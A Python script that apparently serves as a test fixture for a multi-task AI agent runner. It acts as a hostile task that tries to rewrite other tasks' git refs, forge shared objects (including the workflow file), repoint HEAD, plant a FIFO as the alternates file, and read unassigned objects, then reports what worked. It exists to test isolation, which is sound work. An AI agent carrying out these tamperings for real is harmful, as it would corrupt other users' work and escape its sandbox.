"""A hostile agent that goes after the git store: other tasks' refs, shared objects, the
worktree's HEAD, the alternates file, and objects of the user's repository it was never given.
It writes what it managed to plan.md (so a planning stage "succeeds" and its report is stored)
and prints it.

    python git_attack.py SPEC_JSON

SPEC_JSON: {"mode": "refs" | "objects" | "head" | "fifo" | "read", ...}. Two tasks of one
repository run the same workflow: the task of issue 1 is the attacker ("A"), any other task
the victim ("B").
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import zlib
from pathlib import Path

spec = json.loads(sys.argv[1])
report: dict[str, object] = {}


def git(*args: str, data: bytes | None = None) -> str:
    proc = subprocess.run(["git", *args], input=data, capture_output=True, timeout=30)
    if proc.returncode:
        raise RuntimeError(proc.stderr.decode("utf-8", "replace").strip()[-300:])
    return proc.stdout.decode("utf-8", "replace").strip()


def attempt(name: str, fn) -> None:
    try:
        report[name] = {"ok": True, "value": fn()}
    except BaseException as exc:  # noqa: BLE001 - every failure is a result here
        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"[:400]}


def object_dirs() -> list[Path]:
    """Every object directory this git can see: its own and each alternate."""
    common = Path(git("rev-parse", "--path-format=absolute", "--git-common-dir"))
    dirs = [common / "objects"]
    try:
        dirs += [Path(line) for line in (common / "objects" / "info" / "alternates").read_text().split() if line]
    except OSError:
        pass
    return dirs


def in_every_object_dir(where, write, *, errors: str, nothing: str) -> list[str]:
    """`write(path)` for the `where(objects)` path of every object directory in reach; the paths
    written. Each failure is listed in report[`errors`]; none written raises `nothing`."""
    done = []
    for objects in object_dirs():
        path = where(objects)
        try:
            write(path)
            done.append(str(path))
        except OSError as exc:
            report.setdefault(errors, []).append(f"{path}: {exc}")  # type: ignore[union-attr]
    if not done:
        raise RuntimeError(nothing)
    return done


def forge(oid: str, content: bytes) -> list[str]:
    """Write a loose object named `oid` holding `content` in every object directory in reach."""
    raw = zlib.compress(b"blob %d\0" % len(content) + content)

    def write(path: Path) -> None:
        path.parent.mkdir(exist_ok=True)
        if path.exists():
            path.unlink()
        path.write_bytes(raw)

    return in_every_object_dir(lambda objects: objects / oid[:2] / oid[2:], write, errors="forge_errors", nothing="no object directory was writable")


branch = git("symbolic-ref", "--short", "HEAD")
attacker = branch.startswith("tacx/1-")
report["role"] = "A" if attacker else "B"
mode = spec["mode"]

if mode == "refs":
    if attacker:

        def rewrite() -> list[str]:
            hit: list[str] = []
            deadline = time.time() + spec.get("wait", 15)
            while time.time() < deadline and not hit:
                for ref in git("for-each-ref", "--format=%(refname)", "refs/heads/").split():
                    if ref == f"refs/heads/{branch}" or subprocess.run(["git", "cat-file", "-e", f"{ref}:b.txt"], capture_output=True).returncode:
                        continue
                    blob = git("hash-object", "-w", "--stdin", data=bytes.fromhex(spec["canary"]))
                    base = git("rev-parse", f"{ref}^{{tree}}")
                    entries = git("ls-tree", base) + f"\n100644 blob {blob}\ta.txt\n"
                    tree = git("mktree", data=entries.encode())
                    commit = git("commit-tree", tree, "-p", ref, "-m", "from A", data=b"")
                    git("update-ref", ref, commit)
                    hit.append(ref)
                time.sleep(0.3)
            if not hit:
                raise RuntimeError("no other task's ref was in reach")
            return hit

        attempt("rewrite_other_ref", rewrite)
    else:
        Path("b.txt").write_text("B's own work\n")
        git("add", "b.txt")
        git("-c", "user.name=B", "-c", "user.email=b@example.com", "commit", "-q", "-m", "B's work")
        time.sleep(spec.get("hold", 8))
elif mode == "objects":
    if attacker:
        attempt("forge_readme", lambda: forge(git("rev-parse", "HEAD:README.md"), bytes.fromhex(spec["readme"])))
        attempt("forge_workflow", lambda: forge(git("rev-parse", "HEAD:.tac/workflow.yaml"), bytes.fromhex(spec["workflow"])))
    else:
        text = Path("README.md").read_text()
        report["readme_seen"] = text[:200]
        Path("README.md").write_text(text + "B was here\n")
        git("add", "README.md")
        git("-c", "user.name=B", "-c", "user.email=b@example.com", "commit", "-q", "-m", "B's work")
elif mode == "head":
    Path("sneaky.txt").write_text(spec["canary"] + "\n")
    gitdir = Path(git("rev-parse", "--path-format=absolute", "--git-dir"))

    def repoint() -> str:
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
        return "HEAD -> refs/heads/main"

    attempt("repoint_head", repoint)
elif mode == "fifo":
    if attacker:

        def plant(target: Path) -> None:
            if target.exists() or target.is_symlink():
                target.unlink()
            os.mkfifo(target)

        attempt(
            "fifo_alternates",
            lambda: in_every_object_dir(lambda objects: objects / "info" / "alternates", plant, errors="fifo_errors", nothing="no alternates file was writable"),
        )
elif mode == "read":
    for name, oid in spec["objects"].items():
        attempt(name, lambda oid=oid: git("cat-file", "-p", oid))
    attempt("refs", lambda: git("for-each-ref", "--format=%(refname)"))
    attempt("stash", lambda: git("stash", "list"))

text = "# Plan\n\n" + json.dumps(report, indent=1) + "\n"
Path("plan.md").write_text(text)
print(text)
